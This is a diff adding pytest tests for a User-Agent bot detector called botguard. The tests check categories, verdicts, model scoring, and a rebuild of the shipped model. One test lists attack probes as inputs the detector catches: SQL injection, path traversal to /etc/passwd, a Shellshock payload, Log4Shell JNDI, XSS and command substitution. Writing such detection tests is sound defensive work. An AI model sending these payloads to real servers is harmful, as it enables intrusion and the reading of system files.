@@ -1,0 +1,150 @@
+"""The default detector: probes in their own category, evidence on both sides, a model verdict
+that says why and has a category, explain() agreeing with classify(), and the shipped model being
+exactly what the build script makes of the shipped corpus."""
+
+from __future__ import annotations
+
+import importlib.util
+import json
+import sys
+from importlib import resources
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from botguard import Config, Verdict, classify, explain
+from botguard._detector import MODEL_FILE, load_model
+from botguard._rulesets import CATEGORIES, builtin_ruleset, default_detector
+
+ROOT = Path(__file__).resolve().parent.parent
+CHROME = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/120.0.0.0 Safari/537.36"
+)
+
+
+@pytest.mark.parametrize(
+    "user_agent",
+    [
+        "' OR 1=1 --",
+        "../../../../etc/passwd",
+        "() { :; }; /bin/bash -c 'cat /etc/passwd'",
+        "$(nslookup abc.example.org)",
+        CHROME + "<script>alert(1)</script>",
+        "${jndi:ldap://example.org/a}",
+        "sqlmap/1.7.2#stable (https://sqlmap.org)",
+        "-1 OR 2+150-150-1=0+0+0+1 --",
+        "..%252f..%252fboot.ini",
+    ],
+)
+def test_attack_probes_have_a_category_of_their_own(user_agent: str) -> None:
+    found = explain(user_agent)
+    assert found.verdict is Verdict.BOT and found.category == "probe", found
+    admitted = explain(user_agent, Config(allow_categories=["probe"]))
+    assert (admitted.verdict, admitted.list) == (Verdict.NONE, "allow_categories")
+
+
+def test_probe_is_a_category_users_can_name() -> None:
+    assert "probe" in CATEGORIES
+    assert Config.from_mapping({"allow_categories": ["probe"]}).allow_categories == ("probe",)
+
+
+@pytest.mark.parametrize(
+    "user_agent",
+    [
+        CHROME,
+        # People's media software: players, OS media stacks, radio and podcast apps, speakers.
+        "VLC/3.0.18 LibVLC/3.0.18",
+        "AppleCoreMedia/1.0.0.20G165 (iPhone; U; CPU OS 16_6 like Mac OS X; en_us)",
+        "iTunes-AppleTV/4.1",
+        "stagefright/1.2 (Linux;Android 9)",
+        "Podcasts/1700.1 CFNetwork/1408.0.4 Darwin/22.5.0",
+        "TuneIn Radio/30.1 (Android 13; SM-G991B; Java)",
+        "Sonos/79.1-52220 (ZPS23)",
+        # Feature phones and TVs that isbot's shapes take for scripts.
+        "SAMSUNG-GT-S8530/1.0;",
+        "Mozilla/5.0(SmartHub;SMART-TV;U;Linux/SmartTV;Maple2012)AppleWebKit/534.7(KHTML,likeGecko)SmartTV",
+    ],
+)
+def test_people_pass(user_agent: str) -> None:
+    assert explain(user_agent).verdict is Verdict.NONE, explain(user_agent)
+
+
+def test_a_bare_name_and_version_is_no_evidence_either_way() -> None:
+    # An unknown name weighs nothing: neither the shape nor the unseen word makes it a bot.
+    assert explain("Zqxwvy/2.4.1").verdict is Verdict.NONE
+
+
+def test_a_self_declared_crawler_with_media_words_is_still_a_bot() -> None:
+    found = explain("PodcastRadioCrawler/1.0 (+https://example.org/crawler; radio podcast)")
+    assert found.verdict is Verdict.BOT, found
+
+
+def test_a_scored_verdict_says_why_and_has_a_category() -> None:
+    ua = "aws-sdk-go/1.4.12 (go1.6; linux; amd64) S3Manager"
+    found = explain(ua)
+    assert found.verdict is Verdict.BOT and found.list == "builtin"
+    assert found.rule is not None and found.rule.source == "model"
+    assert found.rule.pattern.startswith("score ") and " go +" in found.rule.pattern  # the weightiest words
+    assert found.category in CATEGORIES
+    admitted = explain(ua, Config(allow_categories=[found.category]))
+    assert admitted.verdict is Verdict.NONE and admitted.list == "allow_categories"
+    assert "(model, " in str(found)
+
+
+def test_kong_is_untouched_by_the_detector() -> None:
+    assert builtin_ruleset("kong").search("' OR 1=1 --") is None
+    assert classify("VLC/3.0.18 LibVLC/3.0.18", Config(builtin="kong")) is Verdict.NONE
+
+
+def test_the_model_is_data_with_its_thresholds() -> None:
+    model = load_model()
+    assert model["threshold_words"] > 0
+    assert all(isinstance(w, float) for table in ("words", "affixes", "rules") for w in model[table].values())
+    with pytest.raises(ValueError, match="lacks 'words'"):
+        load_model({"threshold_rule": 1.0, "threshold_words": 1.0})
+
+
+def test_a_detector_can_be_built_from_another_model() -> None:
+    model = {"words": {"zqxwvy": 5.0}, "affixes": {}, "rules": {}, "threshold_rule": 1.0, "threshold_words": 1.0}
+    detect = default_detector(model)
+    found = detect("Zqxwvy/2.4.1")
+    assert found is not None and found.source == "model" and found.pattern.endswith(": zqxwvy +5.00")
+
+
+_PIECES = [
+    "Mozilla/5.0 ", "(Windows NT 10.0; Win64; x64) ", "(Linux; Android 13; Pixel 7 Build/TQ3A.230901.001) ",
+    "AppleWebKit/537.36 ", "(KHTML, like Gecko) ", "Chrome/120.0 ", "Safari/537.36", "bot", "Bot/1.0", "crawler",
+    "spider", "curl/8.4.0", "python-requests/2.31", "VLC/3.0", "radio", "podcast", "+http://example.org", "'",
+    " OR 1=1", "../", "$(", "sdk", "go1.21", "http", "client", "feed", "monitor", "x", "/", ";", " ", "1.0",
+    "Googlebot/2.1", "WhatsApp/2.23", "Dalvik/2.1.0",
+]
+
+
+@given(st.one_of(st.lists(st.sampled_from(_PIECES), max_size=10).map("".join), st.text(max_size=80)))
+@settings(max_examples=300, deadline=None)
+def test_explain_and_classify_agree(user_agent: str) -> None:
+    config = Config()
+    found = explain(user_agent, config)
+    assert classify(user_agent, config) is found.verdict
+    # A blocking verdict always names its rule and category; a pass names none from the list.
+    if found.verdict is Verdict.BOT:
+        assert found.rule is not None and found.category in CATEGORIES
+    allowed = Config(allow_categories=list(CATEGORIES))
+    assert classify(user_agent, allowed) is not Verdict.BOT
+
+
+def test_the_shipped_model_is_what_the_build_script_makes() -> None:
+    if importlib.util.find_spec("numpy") is None:
+        pytest.skip("numpy is not installed (pip install -e '.[dev]')")
+    sys.path.insert(0, str(ROOT / "scripts"))
+    try:
+        import build_detector
+    finally:
+        sys.path.remove(str(ROOT / "scripts"))
+    shipped = resources.files("botguard.rules").joinpath(MODEL_FILE).read_text("utf-8")
+    built = build_detector.dumps(build_detector.build(build_detector.DEFAULT_DATA))
+    assert json.loads(built)["threshold_rule"] == json.loads(shipped)["threshold_rule"]
+    assert built == shipped, "run scripts/build_detector.py and commit the model"
